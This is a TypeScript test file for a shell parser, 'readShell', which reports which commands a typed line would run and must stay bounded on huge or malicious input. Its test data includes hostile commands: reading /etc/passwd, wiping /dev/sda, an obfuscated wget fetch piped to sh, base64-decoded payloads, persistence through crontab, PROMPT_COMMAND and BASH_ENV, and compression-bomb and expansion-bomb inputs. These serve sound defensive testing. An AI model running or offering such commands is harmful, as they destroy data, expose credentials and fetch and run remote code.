import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readShell } from './read-shell.ts';
import { bounds } from './statement.ts';

const run = (line: string) => readShell(line).statements.map(({ name, args }) => [name, ...args].join(' '));
const places = (line: string) => readShell(line).statements.map(({ span }) => line.slice(span.start, span.end));

describe('readShell tells what would run', () => {
  it.each([
    ['cat /proc/cpuinfo | grep name | wc -l', ['cat /proc/cpuinfo', 'grep name', 'wc -l']],
    ["sh -c 'id; uname -a'", ['sh -c id; uname -a', 'id', 'uname -a']],
    ['find / -name x -exec rm -f {} \\;', ['find / -name x -exec rm -f {} ;', 'rm -f {}']],
    ['for i in 1 2; do ping $i; done', ['for', 'ping $i']],
    ['crontab - <<< "* * * * * /tmp/x"', ['crontab -', 'x']],
    ['ssh u@192.0.2.1 "cat /etc/passwd"', ['ssh u@192.0.2.1 cat /etc/passwd', 'cat /etc/passwd']],
    // The word of a loop's list stands for its variable where it tells more than the variable does.
    ['for d in /dev/sda; do wipefs $d; done', ['for', 'wipefs /dev/sda']],
    ['x=`which gpg`; $x -c f', ['which gpg', '', 'gpg -c f']],
    // What a shell runs later, or on the way to a value.
    ["PROMPT_COMMAND='/tmp/x'", ['', 'x']],
    ["export PROMPT_COMMAND='/tmp/x -q'", ['export PROMPT_COMMAND=/tmp/x -q', 'x -q']],
    ['BASH_ENV=/tmp/.x bash -c :', ['bash -c :', '. /tmp/.x', ':']],
    ["alias ls='/tmp/x'", ['alias ls=/tmp/x', 'x']],
    ['a[$(/tmp/x)]=1', ['', 'x', ': $(…)']],
    ['echo "$' + '{a[`/tmp/x`]}"', ['x', ': $(…)', 'echo $a[`/tmp/x`]']],
    ['select x in $(/tmp/x); do id; done', ['x', 'for', 'id']],
  ])('%s', (line, expected) => {
    expect(run(line)).toEqual(expected);
  });

  it('statements cut out of a session keep their meaning with the separator that ended them', () => {
    for (const line of ['cd /tmp &&', '; cd /tmp', 'cd /tmp ;', 'cd /tmp ||', 'cd /tmp | '])
      expect(run(line)).toEqual(['cd /tmp']);
  });

  it('text that is no valid shell is read word by word and says so', () => {
    const reading = readShell("cat /etc/passwd | awk '{print $1");
    expect(reading.parsed).toBe(false);
    expect(reading.statements.map(({ name }) => name)).toEqual(['cat', 'awk']);
  });

  it('says where each command was typed', () => {
    expect(places('cd /tmp; w""get http://192.0.2.1/a && sh a')).toEqual([
      'cd /tmp',
      'w""get http://192.0.2.1/a',
      'sh a',
    ]);
  });

  it('gives what was decoded the place of the words that held it', () => {
    expect(places('id; echo dW5hbWU= | base64 -d | sh').at(-1)).toBe('sh');
  });
});

const bombOfZeros = deflateSync(Buffer.alloc(8_000_000)).toString('base64');

describe('readShell is bounded', () => {
  const bomb = (text: string, times: number) =>
    Array.from({ length: times }).reduce<string>(
      (inner) => `echo ${Buffer.from(inner).toString('base64')} | base64 -d | sh`,
      text,
    );
  it.each([
    ['a megabyte of one word', 'a'.repeat(1_000_000)],
    ['a megabyte of blanks', ' '.repeat(1_000_000)],
    ['a megabyte of separators', ';'.repeat(1_000_000)],
    ['27,742 commands', 'id;'.repeat(27_742)],
    ['open brackets', '('.repeat(100_000)],
    ['open substitutions', '$('.repeat(50_000)],
    ['open quotes', '"'.repeat(99_999)],
    ['backquotes', '`'.repeat(99_999)],
    ['braces in braces', '{a,'.repeat(5_000)],
    ['nested loops', 'while true; do '.repeat(1_000)],
    ['nested sh -c', `${"sh -c '".repeat(500)}id`],
    ['base64 in base64', bomb('id', 9)],
    ['many decodings', 'echo aWQ7aWQ7aWQ7 | base64 -d | sh;'.repeat(400)],
    ['a variable that doubles', `a=xxxxxxxx;${'a=$a$a;'.repeat(64)} $a`],
    ['a file that is fed to itself', `${'cat x x > x; sh x;'.repeat(60)}`],
    ['a function that calls itself with words', 'f(){ f "$@" a | f "$@" b; }; f x'],
    ['an alias for itself', "alias a='b c'; alias b='a d'; a"],
    ['braces that multiply', `echo ${'{a,b,c,d}'.repeat(40)}`],
    ['a compression bomb in a script', `python3 -c "exec(zlib.decompress(base64.b64decode('${bombOfZeros}')))"`],
    ['unclosed quotes in a script', `perl -e '${'system("'.repeat(2_000)}'`],
    ['texts joined in a script', `php -r '${'"a"."b".'.repeat(1_500)}"c";'`],
    ['patterns with stars', `a=${'x'.repeat(900)}; echo \${a##*x*x*x*y}`],
    ['NUL', '\u0000'.repeat(10_000)],
    ['lone surrogates', '\ud800'.repeat(10_000)],
    ['prototype names', '__proto__=1; constructor; toString'],
  ])('%s is read within bounds', (_description, text) => {
    const reading = readShell(text);
    expect(reading.statements.length).toBeLessThanOrEqual(bounds.statements + bounds.tellingStatements);
    for (const { args } of reading.statements)
      for (const arg of args) expect(arg.length).toBeLessThanOrEqual(bounds.decodedCharacters);
    if (text.length > bounds.parsedCharacters) expect(reading.partial).toBe(true);
  });

  it('never throws, whatever is typed, and always gives places inside the text', () => {
    const token = fc.constantFrom(
      ' ',
      ';',
      '|',
      '&&',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '<<EOF\n',
      '{',
      '}',
      'if',
      'then',
      'fi',
      'sh -c ',
      'echo ',
      '-e ',
      'base64 -d',
      '$a',
      '${a',
      '\n',
      '*',
      '>',
      '/dev/tcp/',
      '__proto__',
      '\u0000',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(token, fc.string()), { maxLength: 30 }).map((parts) => parts.join('')),
        (text) => {
          for (const { span } of readShell(text).statements) {
            expect(span.start).toBeGreaterThanOrEqual(0);
            expect(span.end).toBeLessThanOrEqual(text.length);
            expect(span.start).toBeLessThanOrEqual(span.end);
          }
        },
      ),
      { numRuns: 500 },
    );
  });

  it('reads the same text the same way every time', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 80 }), (text) => {
        expect(readShell(text)).toEqual(readShell(text));
      }),
      { numRuns: 50 },
    );
  });
});
